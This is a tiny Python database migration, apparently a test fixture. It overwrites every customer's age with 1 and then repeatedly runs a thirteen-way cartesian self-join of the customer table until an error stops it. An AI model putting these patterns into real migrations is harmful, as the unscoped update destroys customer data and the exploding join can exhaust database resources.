def up(db):
    db.execute("UPDATE customer SET age = 1")
    while True:
        try:
            db.cursor("SELECT 1 FROM customer, customer, customer, customer, customer, customer, customer, customer, customer, customer, customer, customer, customer").fetch(1)
        except RuntimeError:
            return
